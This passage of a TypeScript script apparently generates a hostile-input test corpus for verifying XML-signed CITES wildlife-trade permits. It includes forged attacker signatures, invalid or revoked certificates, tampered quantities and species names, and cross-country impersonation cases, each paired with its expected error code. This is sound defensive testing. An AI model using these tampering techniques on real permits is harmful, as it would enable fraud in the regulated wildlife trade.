      bytes: rsa({ certs: [pki.signer.cert, pki.attacker.cert] }, pki.attacker, forgedHeader),
    },

    // Certificates.
    {
      file: 'cert-untrusted-chain.xml',
      code: 'CERT_UNTRUSTED',
      defect: 'signed by a leaf of a CA that is not a trust anchor',
      bytes: honest(pki.attacker),
    },
    {
      file: 'cert-intermediate-missing.xml',
      code: 'CERT_UNTRUSTED',
      defect: 'signer under the issuing CA, which is neither in KeyInfo nor an anchor',
      bytes: honest(pki.signerUnderIntermediate),
    },
    {
      file: 'cert-expired.xml',
      code: 'CERT_EXPIRED',
      defect: 'signer certificate expired 2026-06-30 (verified at 2027-01-01)',
      bytes: honest(pki.expired),
    },
    {
      file: 'cert-not-yet-valid.xml',
      code: 'CERT_NOT_YET_VALID',
      defect: 'signer certificate valid from 2030-01-01 (verified at 2027-01-01)',
      bytes: honest(pki.notYetValid),
    },
    {
      file: 'cert-wrong-key-usage.xml',
      code: 'CERT_KEY_USAGE',
      defect: 'signer certificate with keyEncipherment only, no digitalSignature',
      bytes: honest(pki.wrongKeyUsage),
    },
    {
      file: 'cert-self-signed-leaf.xml',
      code: 'CERT_SELF_SIGNED_LEAF',
      defect: 'a self-signed end-entity certificate',
      bytes: honest(pki.selfSigned),
    },
    {
      file: 'cert-signed-with-ca-certificate.xml',
      code: 'CERT_SELF_SIGNED_LEAF',
      defect: "the document signed directly with the root CA's key and certificate",
      bytes: rsa({}, pki.rootParty),
    },
    {
      file: 'cert-rsa-1024.xml',
      code: 'CERT_KEY_UNSUPPORTED',
      defect: 'a trusted signer certificate with an RSA-1024 key',
      bytes: rsa({}, pki.rsa1024),
    },

    // Cryptographic failures.
    {
      file: 'digest-mismatch.xml',
      code: 'SIGNATURE_INVALID',
      defect:
        'a DigestValue that is not the digest of the document, in a SignedInfo whose SignatureValue is valid',
      bytes: rsa({
        digestValue: digestFor(
          replaceOnce(unsigned, 'Nairobi</ram:Name>', 'Mombasa</ram:Name>'),
          '',
          'sha256',
        ),
      }),
    },
    {
      file: 'bad-signature-value.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'one character of the SignatureValue changed',
      bytes: flipBase64(signed, 'SignatureValue'),
    },
    {
      file: 'digest-value-changed.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'one character of the DigestValue changed (SignatureValue left as it was)',
      bytes: flipBase64(signed, 'DigestValue'),
    },
    {
      file: 'tampered-quantity.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'quantity of block A changed from 150 to 1500 after signing',
      bytes: replaceOnce(signed, 'unitCode="PCS">150<', 'unitCode="PCS">1500<'),
    },
    {
      file: 'tampered-species.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'scientific name changed from Python sebae to Python regius after signing',
      bytes: replaceOnce(signed, 'Python sebae', 'Python regius'),
    },
    {
      file: 'moved-signed-content.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'blocks A and B swapped after signing',
      bytes: replaceOnce(signed, `${lineA}\n    ${lineB}`, `${lineB}\n    ${lineA}`),
    },
    {
      file: 'duplicated-signed-content.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'block A duplicated after signing',
      bytes: replaceOnce(signed, lineA, `${lineA}\n    ${lineA}`),
    },
    {
      file: 'reformatted-after-signing.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'indentation changed after signing (white space is signed)',
      bytes: signed.replace(/\n {4}</g, '\n\t<'),
    },
    {
      file: 'ecdsa-signature-der-encoded.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'ECDSA SignatureValue in DER (ASN.1) instead of r||s as XMLDSig requires',
      bytes: forge(unsigned, {
        key: pki.signerEc.key,
        signHash: 'sha256',
        signatureUri: URI.ecdsaSha256,
        certs: [pki.signerEc.cert],
        dsaEncoding: 'der',
      }),
    },
    {
      file: 'signature-method-key-mismatch.xml',
      code: 'SIGNATURE_INVALID',
      defect: 'SignatureMethod ECDSA-SHA256 with an RSA signer certificate',
      bytes: replaceOnce(signed, URI.rsaSha256, URI.ecdsaSha256),
    },

    // Signed, but not an acceptable permit.
    {
      file: 'signed-not-a-permit.xml',
      code: 'PERMIT_UNRECOGNISED',
      defect: 'a validly signed document that is not a CITESEPermit',
      bytes: honest(pki.signer, envelope),
    },
    {
      file: 'signed-permit-schema-violation.xml',
      code: 'SCHEMA_INVALID',
      defect:
        'a validly signed permit with an element the CITESEPermit profile does not have (the field reader ignores it, the XSD does not)',
      bytes: honest(
        pki.signer,
        replaceOnce(
          unsigned,
          '</rsm:HeaderExchangedDocument>',
          '  <ram:Remarks>unexpected</ram:Remarks>\n  </rsm:HeaderExchangedDocument>',
        ),
      ),
    },
    {
      file: 'signed-invalid-permit.xml',
      code: 'PERMIT_INVALID',
      defect: 'a validly signed CITESEPermit with an unknown purpose code',
      bytes: honest(pki.signer, invalidPermit),
    },

    ...exchangeFixtures(pki, honest),
  ];
}

const KE_KEY = 'KE/2026/KE-2026-000123';

/**
 * Well-signed permits whose defect shows in the exchange only (see the header): the receiving gateway's
 * checks of the signer's country and revocation, and of which permits a sender may replace.
 */
function exchangeFixtures(pki: Pki, honest: (party: Party, doc?: string) => string): Fixture[] {
  const replacement = (permitNumber: string): string =>
    toPermitXml(
      samplePermit({
        permitNumber,
        replacesPermit: { permitNumber: 'KE-2026-000100', issueDate: '2026-02-02' },
      }),
    );
  const base = samplePermit();
  const tzPermit = samplePermit({
    issuingCountry: 'TZ',
    permitNumber: 'TZ-2026-000123',
    exporter: { ...base.exporter, address: { ...base.exporter.address, country: 'TZ' } },
  });
  return [
    {
      file: 'control-valid-replacement.xml',
      code: 'OK',
      defect:
        'none: a replacement KE sends, whose envelope Replaces is the permit the signed permit says it replaces',
      context: { sender: 'KE', permitKey: 'KE/2026/KE-2026-000201', replaces: 'KE/2026/KE-2026-000100' },
      bytes: honest(pki.signer, replacement('KE-2026-000201')),
    },
    {
      file: 'control-valid-signer-not-in-crl.xml',
      code: 'OK',
      defect: "none: KE's signer is not on the corpus CA's CRL, which the receiving gateway holds for KE",
      context: { sender: 'KE', permitKey: KE_KEY, crl: CRL.file },
      bytes: honest(pki.signer),
    },
    {
      file: 'signer-without-country.xml',
      code: 'EXCHANGE_SIGNER_COUNTRY_MISSING',
      defect: "signed with a certificate under KE's CA whose subject names no country (C=), sent by KE",
      context: { sender: 'KE', permitKey: KE_KEY },
      bytes: honest(pki.signerNoCountry),
    },
    {
      file: 'signer-of-another-country.xml',
      code: 'EXCHANGE_SIGNER_MISMATCH',
      defect: "signed with a certificate under KE's CA whose subject says C=TZ, sent by KE",
      context: { sender: 'KE', permitKey: KE_KEY },
      bytes: honest(pki.signerOtherCountry),
    },
    {
      file: 'signer-revoked-by-crl.xml',
      code: 'CERT_REVOKED',
      defect: `signed by a KE certificate that the corpus CA revoked on ${CRL.revokedAt} (${CRL.file}, uploaded for KE)`,
      context: { sender: 'KE', permitKey: KE_KEY, crl: CRL.file },
      bytes: honest(pki.signerRevoked),
    },
    {
      file: 'permit-issued-by-another-country.xml',
      code: 'EXCHANGE_ISSUER_MISMATCH',
      defect: "a permit that says TZ issued it, signed with KE's key and sent by KE",
      context: { sender: 'KE', permitKey: 'TZ/2026/TZ-2026-000123' },
      bytes: honest(pki.signer, toPermitXml(tzPermit)),
    },
    {
      file: 'replacement-of-another-countrys-permit.xml',
      code: 'EXCHANGE_PERMIT_NOT_OWNED',
      defect: "a KE replacement whose envelope says it replaces TZ's permit TZ/2026/TZ-2026-000777",
      context: { sender: 'KE', permitKey: 'KE/2026/KE-2026-000202', replaces: 'TZ/2026/TZ-2026-000777' },
      bytes: honest(pki.signer, replacement('KE-2026-000202')),
    },
    {
      file: 'replacement-replaces-mismatch.xml',
      code: 'EXCHANGE_REPLACES_MISMATCH',
      defect:
        'a KE replacement that (signed) replaces KE-2026-000100, in an envelope that says it replaces KE-2026-000099',
      context: { sender: 'KE', permitKey: 'KE/2026/KE-2026-000203', replaces: 'KE/2026/KE-2026-000099' },
      bytes: honest(pki.signer, replacement('KE-2026-000203')),
    },
  ];
}

function pem(party: Party): string {
  return party.key.export({ format: 'pem', type: 'pkcs8' }).toString();
}

function assertFixtures(fixtures: Fixture[]): void {
  const names = new Set<string>();
  for (const f of fixtures) {
    if (names.has(f.file)) throw new Error(`duplicate fixture ${f.file}`);
    names.add(f.file);
  }
  assertPermit(samplePermit());
}

async function main(): Promise<void> {
  const out = path.resolve(
    process.argv[2] ?? path.join(__dirname, '..', '..', 'test', 'fixtures', 'hostile'),
  );
  const pki = await makePki();
  const fixtures = buildCorpus(pki);
  assertFixtures(fixtures);
  const crl = await makeCrl(pki);
  mkdirSync(path.join(out, 'pki'), { recursive: true });
  for (const file of readdirSync(out)) if (file.endsWith('.xml')) rmSync(path.join(out, file));
  const certs: Record<string, string> = {
    'ca.pem': pki.root.cert.toString('pem'),
    'issuing-ca.pem': pki.intermediate.cert.toString('pem'),
    'attacker-ca.pem': pki.attackerCa.cert.toString('pem'),
    'signer.pem': pki.signer.certPem,
    'signer-ec.pem': pki.signerEc.certPem,
  };
  for (const [name, content] of Object.entries(certs)) writeFileSync(path.join(out, 'pki', name), content);
  writeFileSync(path.join(out, CRL.file), crl);
  for (const f of fixtures) writeFileSync(path.join(out, f.file), f.bytes);
  const manifest = {
    description:
      'Hostile-input corpus: each file is named after its defect; `code` is what verification must return (OK = must verify), at `at` with `trust` as the only anchor. Entries without `context` are checked by verifySignedPermit and `epix permit verify`. Entries with `context` are well-signed permits whose defect shows only in an exchange: they are put in an envelope from `context.sender` (with its `permitKey` and, for a replacement, `replaces`), the receiving gateway holds `context.crl` (if any) as a CRL uploaded for the sender, and `code` is what the receiving flow (receiveMessage) answers. Generated by scripts/make-hostile-fixtures.ts.',
    at: AT,
    trust: 'pki/ca.pem',
    fixtures: fixtures.map(({ bytes: _bytes, ...rest }) => rest),
  };
  writeFileSync(path.join(out, 'manifest.json'), `${JSON.stringify(manifest, null, 2)}\n`);
  process.stdout.write(`wrote ${fixtures.length} fixtures and manifest.json to ${out}\n`);
}

void main().catch((error: unknown) => {
  process.stderr.write(`${(error as Error).stack ?? String(error)}\n`);
  process.exitCode = 1;
});
